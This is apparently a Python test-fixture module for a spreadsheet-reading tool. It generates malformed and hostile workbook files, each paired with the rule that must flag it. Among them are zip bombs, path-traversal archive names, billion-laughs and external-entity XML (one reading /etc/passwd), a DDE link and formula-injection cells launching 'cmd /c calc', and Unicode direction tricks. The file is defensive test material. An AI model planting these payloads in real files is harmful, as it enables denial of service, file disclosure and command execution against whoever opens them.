"""Files that somebody might send, by mistake or on purpose: one trick each, and the rule that must name it."""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import NamedTuple

from tests.formats.packages import (
    FORM,
    GOAL,
    HIDDEN,
    NAME,
    SHEET,
    START,
    TOTAL,
    Change,
    Parts,
    add,
    before_end,
    cell,
    cell_of,
    changed,
    drop,
    good_bytes,
    good_parts,
    replace,
    text_cell,
)
from tests.hostile.compound import biff12_record, biff_record, container, number_cell, wide, xls
from xltool.base.findings import Finding
from xltool.reading.open_book import open_book

MIB = 1024 * 1024
BOOK, TEXTS, STYLES = "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml"
BOOK_RELS, ROOT_RELS = "xl/_rels/workbook.xml.rels", "_rels/.rels"
HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODS_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
)
ODS_TAIL = "</office:spreadsheet></office:body></office:document-content>"


class Trick(NamedTuple):
    """How a file is made, under which suffix it comes, and the rule that names it; "" when it does no harm and is read."""

    rule: str
    make: Callable[[Path], Path]
    suffix: str = "xlsx"


def parts(rule: str, *changes: Change, suffix: str = "xlsx") -> Trick:
    """A good workbook with its parts changed."""
    return Trick(rule, lambda path: changed(path, *changes), suffix)


def raw(rule: str, content: Callable[[], bytes] | bytes, suffix: str = "xlsx") -> Trick:
    """A file with this content."""

    def make(path: Path) -> Path:
        path.write_bytes(content() if callable(content) else content)
        return path

    return Trick(rule, make, suffix)


def in_cell(rule: str, field: str, content: str, attributes: str = "") -> Trick:
    """A good workbook with other content in one cell."""
    return Trick(rule, lambda path: changed(path, cell(cell_of(field), content, attributes)))


def in_text(rule: str, field: str, text: str) -> Trick:
    return Trick(rule, lambda path: changed(path, text_cell(cell_of(field), text)))


# --- packages


def archive(*members: tuple[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of its own; names as they are, twice if need be."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as package:
        for name, content in members:
            package.writestr(zipfile.ZipInfo(name), content, compression)
    return buffer.getvalue()


def with_members(*members: tuple[str, bytes]) -> Callable[[], bytes]:
    return lambda: archive(*good_parts().items(), *members)


def inflating_beyond_the_limit() -> bytes:
    """No part inflates suspiciously, all together do."""
    block = random.Random(1).randbytes(100_000) + bytes(8 * MIB)
    return archive(*good_parts().items(), *((f"xl/media/{number}.bin", block) for number in range(40)))


def size_belied() -> bytes:
    """A part that says it is small."""
    content = bytearray(archive(*good_parts().items(), ("xl/media/1.bin", bytes(60 * MIB))))
    size = struct.pack("<L", 60 * MIB)
    at = content.find(size)
    while at >= 0:
        content[at : at + 4] = struct.pack("<L", 100)
        at = content.find(size, at)
    return bytes(content)


def overlapping() -> bytes:
    """Many entries of the directory for one and the same part."""
    content = archive(*good_parts().items())
    end = content.rindex(b"PK\x05\x06")
    entries, size, start = struct.unpack_from("<HLL", content, end + 10)
    directory = content[start : start + size]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"app.xml", b"ap%d.xml" % number) for number in range(10))
    tail = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, entries + 10, entries + 10, size + len(more), start, 0)
    return content[: start + size] + more + tail


def flagged_encrypted() -> bytes:
    content = bytearray(good_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def unknown_method() -> bytes:
    content = bytearray(good_bytes())
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(FORM.encode()))
    content[at + 10 : at + 12] = struct.pack("<H", 98)
    return bytes(content)


def flipped(marker: bytes, offset: int) -> Callable[[], bytes]:
    """One byte changed inside a part's compressed data."""

    def make() -> bytes:
        content = bytearray(good_bytes())
        at = content.find(marker) + len(marker) + offset
        content[at] ^= 0xFF
        return bytes(content)

    return make


# --- XML


def declared(part: str, declaration: str) -> Change:
    """Put a document type before the root element of a part."""

    def change(found: Parts) -> None:
        head, _, tail = found[part].partition(b"?>")
        found[part] = head + b"?>" + declaration.encode() + tail

    return change


LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{number} '{f'&a{number - 1};' * 10}'>" for number in range(1, 10)) + "]>"
BLOWUP = f"<!DOCTYPE x [<!ENTITY a '{'a' * 100_000}'>]>"
EXTERNAL = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
PARAMETER = "<!DOCTYPE x [<!ENTITY % a SYSTEM 'http://x.invalid/x.dtd'> %a;]>"


def utf16_doctype(found: Parts) -> None:
    text = found[FORM].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    head, _, tail = text.partition("?>")
    found[FORM] = (head + "?>" + LAUGHS + tail).encode("utf-16")


def nested(depth: int) -> str:
    return "<x>" * depth + "</x>" * depth


def rows(numbers: range, content: str) -> bytes:
    return "".join(content.format(row=number) for number in numbers).encode()


def letters(count: int) -> bytes:
    """Letters that hardly compress."""
    return random.Random(4).randbytes(count).translate(bytes(65 + byte % 26 for byte in range(256)))


def digits(count: int) -> str:
    return random.Random(5).randbytes(count).translate(bytes(48 + byte % 10 for byte in range(256))).decode()


def one_label_in_the_corner(found: Parts) -> None:
    """By what is left of the labels, all others would lie outside of the sheet."""
    row = '<row r="1"><c r="A1" t="inlineStr"><is><t>联系电话</t></is></c></row>'.encode()
    found[FORM] = re.sub(rb"<sheetData>.*</sheetData>", b"<sheetData>" + row + b"</sheetData>", found[FORM], flags=re.DOTALL)


def many_sheets(found: Parts) -> None:
    sheets = "".join(f'<sheet name="s{number}" sheetId="{number + 10}" r:id="rId1"/>' for number in range(3_000))
    before_end(BOOK, "sheets", sheets)(found)


def many_merges(found: Parts) -> None:
    merges = "".join(f'<mergeCell ref="H{row}:I{row}"/>' for row in range(1_000, 51_000))
    before_end(FORM, "mergeCells", merges)(found)


def named_in_the_hidden_sheet(template: str) -> Change:
    return cell("B2", f"<is><t>{template}</t></is>", 't="inlineStr"', part=HIDDEN)


def link(name: str, content: str) -> Change:
    return add(f"xl/externalLinks/{name}", HEAD + content.encode())


DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>'
OTHER_BOOK = '<externalLink><externalBook r:id="rId1"/></externalLink>'


def relationships(*targets: tuple[str, str]) -> bytes:
    inside = "".join(
        f'<Relationship Id="rId{number}" Type="{OFFICE}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(targets, start=1)
    )
    return HEAD + f'<Relationships xmlns="{RELS}">{inside}</Relationships>'.encode()


# --- other formats


def ods(body: str, *more: tuple[str, bytes], declaration: str = "") -> bytes:
    content = ODS_HEAD.replace("?>", "?>" + declaration, 1) + body + ODS_TAIL
    mimetype = b"application/vnd.oasis.opendocument.spreadsheet"
    return archive(("mimetype", mimetype), ("content.xml", content.encode()), *more, compression=zipfile.ZIP_STORED)


def ods_of_the_form(change: Callable[[str], str]) -> bytes:
    """What stands on the sheet of the form, as texts in an .ods of its own."""
    with TemporaryDirectory() as folder:
        good = Path(folder) / "good.xlsx"
        good.write_bytes(good_bytes())
        book = open_book(good)
        assert not isinstance(book, Finding)
        grid = book.grid(SHEET)
    lines = []
    for row in range(1, grid.n_rows + 1):
        texts = (escaped(grid.text(row, column)) for column in range(1, 8))
        cells = "".join(f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>' for text in texts)
        lines.append(f"<table:table-row>{cells}</table:table-row>")
    return ods(change(f'<table:table table:name="{SHEET}">{"".join(lines)}</table:table>'))


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")


def padded(body: str) -> str:
    return body.replace("绿色资源保护管理", '绿色<text:s text:c="4294967295"/>管理', 1)


def repeated(body: str) -> str:
    cell_ = '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1048000">{cell_}</table:table-row>'
    return body.replace("</table:table>", row + "</table:table>")


def far_below(body: str) -> str:
    blank = '<table:table-row table:number-rows-repeated="1048000"><table:table-cell/></table:table-row>'
    row = '<table:table-row><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
    return body.replace("</table:table>", blank + row + "</table:table>")


def xlsb(sheet: bytes, *, sheets: bytes | None = None) -> bytes:
    listed = biff12_record(156, struct.pack("<LL", 0, 1) + wide("rId1") + wide("S"))
    return archive(
        (ROOT_RELS, relationships(("officeDocument", "xl/workbook.bin"))),
        ("xl/workbook.bin", sheets if sheets is not None else listed),
        ("xl/_rels/workbook.bin.rels", relationships(("worksheet", "worksheets/sheet1.bin"))),
        ("xl/worksheets/sheet1.bin", biff12_record(145) + sheet + biff12_record(146)),
    )


@cache
def xlsb_of_250_mb() -> bytes:
    """A sheet with the ratio of an honest file, whose part is read as a whole."""
    draw, blank = random.Random(4), bytes(8_000)
    return xlsb(biff12_record(5, b"".join(draw.randbytes(64) + blank for _ in range(250 * MIB // 8_064))))


def xlsb_cell(column: int, kind: int, data: bytes) -> bytes:
    return biff12_record(kind, struct.pack("<LL", column, 0) + data)


ROW0 = biff12_record(0, struct.pack("<L", 0) + bytes(20))
PRESENTATION = archive((ROOT_RELS, relationships(("officeDocument", "ppt/presentation.xml"))), ("ppt/presentation.xml", HEAD + b"<p/>"))
DOCUMENT = archive((ROOT_RELS, relationships(("officeDocument", "word/document.xml"))), ("word/document.xml", HEAD + b"<w/>"))
XML_2003 = b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'

TRICKS: dict[str, Trick] = {
    # not what the name says
    "empty file": raw("file.empty", b""),
    "zeros only": raw("file.not-a-workbook", bytes(20_000)),
    "random bytes": raw("file.not-a-workbook", lambda: random.Random(2).randbytes(50_000)),
    "HTML": raw("file.not-a-workbook", b"<html><body><table><tr><td>1</td></tr></table></body></html>", "xls"),
    "HTML after white space": raw("file.not-a-workbook", b"\xef\xbb\xbf \n<!DOCTYPE html><html></html>", "xls"),
    "CSV": raw("file.not-a-workbook", "单位,金额\n城管局,5\n".encode()),
    "CSV in GBK": raw("file.not-a-workbook", "单位,金额\n城管局,5\n".encode("gbk"), "xls"),
    "XML spreadsheet 2003": raw("file.not-a-workbook", XML_2003, "xls"),
    "PDF": raw("file.not-a-workbook", b"%PDF-1.7\n"),
    "picture": raw("file.not-a-workbook", b"\x89PNG\r\n\x1a\n" + bytes(100)),
    "RAR": raw("file.wrapped", b"Rar!\x1a\x07\x01\x00" + bytes(100)),
    "ZIP of a workbook": raw("file.not-a-workbook", lambda: archive(("good.xlsx", good_bytes()))),
    "empty ZIP": raw("file.not-a-workbook", archive()),
    "Word document": raw("file.not-a-workbook", DOCUMENT),
    "presentation": raw("file.not-a-workbook", PRESENTATION),
    "message of Outlook": raw("file.wrapped", container({"__properties_version1.0": b"x"}), "msg"),
    "old Word document": raw("file.not-a-workbook", container({"WordDocument": b"x"}), "xls"),
    "OpenDocument text": raw(
        "file.not-a-workbook", archive(("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", HEAD)), "ods"
    ),
    "larger than the limit": raw("file.too-large", lambda: good_bytes() + bytes(65 * MIB)),
    # encrypted
    "encrypted package": raw("file.encrypted", container({"EncryptionInfo": b"x", "EncryptedPackage": b"x" * 5_000})),
    "encrypted .xls": raw("file.encrypted", xls(workbook=biff_record(0x2F, bytes(54))), "xls"),
    "encrypted ZIP": raw("file.encrypted", flagged_encrypted),
    "encrypted .ods": raw("file.encrypted", lambda: ods("", ("META-INF/manifest.xml", b"<m><manifest:encryption-data/></m>")), "ods"),
    "workbook of Excel 2": raw("file.not-a-workbook", b"\x09\x00\x04\x00\x02\x00\x10\x00" + bytes(100), "xls"),
    "workbook of Excel 4": raw("file.not-a-workbook", b"\x09\x04\x06\x00\x00\x00\x10\x00\x00\x00" + bytes(100), "xls"),
    # packages
    "bomb": raw("file.bomb", with_members(("xl/media/1.bin", bytes(60 * MIB)))),
    "bomb in a sheet of spaces": parts("file.bomb", before_end(FORM, "sheetData", b" " * 60 * MIB)),
    "inflates beyond the limit": raw("file.too-large", inflating_beyond_the_limit),
    "size belied of a part that nobody reads": raw("", size_belied),
    "overlapping parts": raw("file.unsafe", overlapping),
    "part twice": raw("file.unsafe", with_members((FORM, b"<x/>"))),
    "part twice, other case": raw("file.unsafe", with_members((FORM.upper(), b"<x/>"))),
    "name leads up": raw("file.unsafe", with_members(("../../evil.xml", b"<x/>"))),
    "name leads up, backslashes": raw("file.unsafe", with_members(("xl\\..\\..\\evil.xml", b"<x/>"))),
    "absolute name": raw("file.unsafe", with_members(("/etc/evil", b"x"))),
    "name with a drive": raw("file.unsafe", with_members(("C:\\evil.exe", b"x"))),
    "3,000 parts": raw("file.too-many", with_members(*((f"x/{number}", b"") for number in range(3_000)))),
    "70,000 parts": raw("file.too-many", lambda: archive(*((f"{number}", b"") for number in range(70_000)))),
    "unknown compression": raw("file.damaged", unknown_method),
    "wrong checksum": raw("file.damaged", flipped(b"xl/worksheets/sheet1.xml", 2_000)),
    "broken stream": raw("file.damaged", flipped(b"xl/sharedStrings.xml", 3)),
    "nested bomb, never opened": raw("", with_members(("xl/embeddings/bomb.zip", archive(("b", bytes(50 * MIB)))))),
    # parts
    "labels moved off the sheet": parts("layout.moved", one_label_in_the_corner),
    "no workbook part": parts("file.damaged", drop(BOOK)),
    "no sheet part": parts("file.damaged", drop(FORM)),
    "no shared texts": parts("file.damaged", drop(TEXTS)),
    "relationships in a circle": parts("template.unknown", add(ROOT_RELS, relationships(("officeDocument", "_rels/.rels")))),
    "sheet that is the workbook": parts("label.changed", replace(BOOK_RELS, "worksheets/sheet1.xml", "workbook.xml")),
    "3,000 sheets": parts("file.too-many", many_sheets),
    "50,000 merges": parts("file.too-many", many_merges),
    "DDE link": parts("file.external-links", link("externalLink1.xml", DDE)),
    "link to another workbook": parts("file.external-links", link("externalLink1.xml", OTHER_BOOK)),
    "data connection": parts("file.external-links", add("xl/connections.xml", HEAD + b"<connections/>")),
    "macros": parts("file.macros", add("xl/vbaProject.bin", b"x"), suffix="xlsm"),
    "template id with a path": parts("template.unknown", named_in_the_hidden_sheet("../../templates/evil.yaml")),
    "template id of a megabyte": parts("template.unknown", named_in_the_hidden_sheet("x" * MIB)),
    "template id with control characters": parts("template.unknown", named_in_the_hidden_sheet("a_x001B_[31m\u202eb")),
    # XML
    "a billion laughs": parts("file.unsafe", declared(BOOK, LAUGHS)),
    "entities in the sheet": parts("file.unsafe", declared(FORM, LAUGHS)),
    "quadratic entities": parts("file.unsafe", declared(TEXTS, BLOWUP)),
    "external entity": parts("file.unsafe", declared(FORM, EXTERNAL)),
    "parameter entity": parts("file.unsafe", declared(STYLES, PARAMETER)),
    "document type": parts("file.unsafe", declared(FORM, "<!DOCTYPE worksheet>")),
    "document type after a long comment": parts("file.unsafe", declared(FORM, f"<!--{'x' * 300_000}--><!DOCTYPE x>")),
    "document type in UTF-16": parts("file.unsafe", utf16_doctype),
    "document type in relationships": parts("file.unsafe", declared(BOOK_RELS, LAUGHS)),
    "deep nesting in the sheet": parts("file.unsafe", before_end(FORM, "sheetData", nested(100_000))),
    "deep nesting in the texts": parts("file.unsafe", before_end(TEXTS, "sst", nested(1_000))),
    "not well-formed": parts("file.damaged", replace(FORM, "</sheetData>", "</sheetDate>")),
    "cut in the middle": parts("file.damaged", lambda found: found.update({FORM: found[FORM][:30_000]})),
    "two roots": parts("file.damaged", lambda found: found.update({FORM: found[FORM] + b"<x/>"})),
    "unknown encoding": parts("file.damaged", replace(FORM, "UTF-8", "x-martian", count=1)),
    "EBCDIC declared": parts("file.damaged", replace(FORM, "UTF-8", "cp037", count=1)),
    "invalid UTF-8": parts("file.damaged", replace(TEXTS, "绿色", b"\xff\xfe\xfd")),
    "surrogate in UTF-8": parts("file.damaged", replace(TEXTS, "绿色", b"\xed\xa0\xbd")),
    "zero bytes": parts("file.damaged", replace(TEXTS, "绿色", b"\0")),
    "control character as reference": parts("file.damaged", replace(TEXTS, "绿色", b"&#7;")),
    "attribute of 10 MB": parts(
        "file.damaged", before_end(FORM, "sheetData", b'<row><c r="' + letters(10 * MIB) + b'"><v>1</v></c></row>')
    ),
    # cells
    "cell in the last row": parts("sheet.far-cell", before_end(FORM, "sheetData", '<row r="1048576"><c r="A1048576"><v>1</v></c></row>')),
    "cell in the far corner": parts(
        "sheet.far-cell", before_end(FORM, "sheetData", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    ),
    "cell in the last column": parts("sheet.far-cell", before_end(FORM, "sheetData", '<row r="900"><c r="XFD900"><v>1</v></c></row>')),
    "far cell that its row belies": parts(
        "sheet.far-cell", before_end(FORM, "sheetData", '<row r="900"><c r="XFD1048576"><v>1</v></c></row>')
    ),
    "cell beyond the last column": parts("file.damaged", before_end(FORM, "sheetData", '<row r="900"><c r="XFE900"><v>1</v></c></row>')),
    "cell in row 0": parts("file.damaged", before_end(FORM, "sheetData", '<row r="900"><c r="A0"><v>1</v></c></row>')),
    "row below 0": parts("file.damaged", before_end(FORM, "sheetData", '<row r="-5"><c><v>1</v></c></row>')),
    "row that is not a number": parts("", before_end(FORM, "sheetData", '<row r="x"><c><v>1</v></c></row>')),
    "a million blank formatted rows": parts(
        "", before_end(FORM, "sheetData", rows(range(400, 1_000_400), '<row r="{row}" s="1" customFormat="1"/>'))
    ),
    "a million rows with a value": parts(
        "sheet.far-cell", before_end(FORM, "sheetData", rows(range(400, 1_000_400), '<row r="{row}"><c r="J{row}"><v>1</v></c></row>'))
    ),
    "cell of 10 MB": in_text("value.too-long", GOAL, letters(10 * MIB).decode()),
    "number of 10 MB": in_cell("value.too-long", TOTAL, f"<v>{digits(10 * MIB)}</v>"),
    "shared text out of range": in_cell("value.lost", NAME, "<v>999999</v>", 't="s"'),
    "shared text below 0": in_cell("value.lost", NAME, "<v>-1</v>", 't="s"'),
    "shared text that is not a number": in_cell("value.lost", NAME, "<v>abc</v>", 't="s"'),
    "4,294,967,295 shared texts declared": parts("", replace(TEXTS, "<sst ", '<sst x="4294967295" ')),
    "style that is not there": in_cell("", NAME, "<is><t>x</t></is>", 't="inlineStr" s="4294967295"'),
    "1e400": in_cell("value.type", TOTAL, "<v>1e400</v>"),
    "NaN": in_cell("value.type", TOTAL, "<v>NaN</v>"),
    "minus infinity": in_cell("value.type", TOTAL, "<v>-INF</v>"),
    "date far in the future": in_cell("value.type", START, "<v>1e300</v>"),
    "error value": in_cell("value.error", TOTAL, "<v>#REF!</v>", 't="e"'),
    "error value of nonsense": in_cell("value.error", TOTAL, "<v>_x001B_[31m</v>", 't="e"'),
    "formula without result": in_cell("value.not-computed", TOTAL, "<f>1+1</f>"),
    "command as text": in_text("value.formula-like", NAME, "=cmd|'/C calc'!A0"),
    "command after a sum": in_text("value.formula-like", NAME, "@SUM(1+1)*cmd|' /C calc'!A0"),
    "link as text": in_text("value.formula-like", NAME, '+HYPERLINK("http://x.invalid?"&amp;A1,"x")'),
    "web query as text": in_text("value.formula-like", GOAL, '-WEBSERVICE("http://x.invalid")'),
    "control characters": in_text("value.characters", NAME, "a_x0000_b_x001B_[31mc"),
    "half a surrogate pair": in_text("value.characters", NAME, "a_xDC00_b"),
    "turned direction": in_text("value.characters", NAME, "\u202etxt.exe"),
    "invisible characters": in_text("value.characters", NAME, "绿\u200b\ufeff色"),
    "no characters": in_text("value.characters", NAME, "a_xFFFF_b"),
    # other formats
    "OLE container cut off": raw("file.damaged", lambda: container({"Workbook": b"x" * 9_000})[:700], "xls"),
    "OLE container in a circle": raw("file.damaged", container({"Workbook": b"x" * 9_000}, loop=True), "xls"),
    ".xls of nonsense": raw("file.damaged", container({"Workbook": random.Random(3).randbytes(9_000)}), "xls"),
    ".xls, a cell in the far corner": raw("template.unknown", xls(number_cell(65_535, 255, 1) + number_cell(0, 0, 1)), "xls"),
    ".xls, 300,000 cells": raw(
        "template.unknown", lambda: xls(b"".join(number_cell(row // 200, row % 200, row) for row in range(300_000))), "xls"
    ),
    ".xlsb, a sheet of 250 MB": raw("file.too-costly", xlsb_of_250_mb, "xlsb"),
    ".xlsb, a record cut off": raw("file.damaged", lambda: xlsb(ROW0 + biff12_record(6, b"x", size=1_000)), "xlsb"),
    ".xlsb, a text longer than the file": raw(
        "template.unknown", lambda: xlsb(ROW0 + xlsb_cell(0, 6, struct.pack("<L", 0xFFFFFFFE))), "xlsb"
    ),
    ".xlsb, a cell in the far corner": raw(
        "template.unknown",
        lambda: xlsb(biff12_record(0, struct.pack("<L", 1_048_575)) + xlsb_cell(16_383, 5, struct.pack("<d", 1.0))),
        "xlsb",
    ),
    ".xlsb, a cell beyond all columns": raw("file.damaged", lambda: xlsb(ROW0 + xlsb_cell(0xFFFFFFFF, 5, struct.pack("<d", 1.0))), "xlsb"),
    ".xlsb, a cell before any row": raw("file.damaged", lambda: xlsb(xlsb_cell(0, 5, struct.pack("<d", 1.0))), "xlsb"),
    ".xlsb, a shared text where there are none": raw("file.damaged", lambda: xlsb(ROW0 + xlsb_cell(0, 7, struct.pack("<L", 9))), "xlsb"),
    ".ods with entities": raw("file.unsafe", lambda: ods("", declaration=LAUGHS), "ods"),
    ".ods of 4,294,967,295 spaces": raw("value.too-long", lambda: ods_of_the_form(padded), "ods"),
    ".ods repeating a cell 17,000,000,000 times": raw("file.too-many", lambda: ods_of_the_form(repeated), "ods"),
    ".ods, a cell in the last row": raw("sheet.far-cell", lambda: ods_of_the_form(far_below), "ods"),
    ".ods without content": raw("file.damaged", archive(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")), "ods"),
}


def make(name: str, folder: Path) -> Path:
    """Make the file of a trick."""
    trick = TRICKS[name]
    return trick.make(folder / f"{list(TRICKS).index(name):03}.{trick.suffix}")
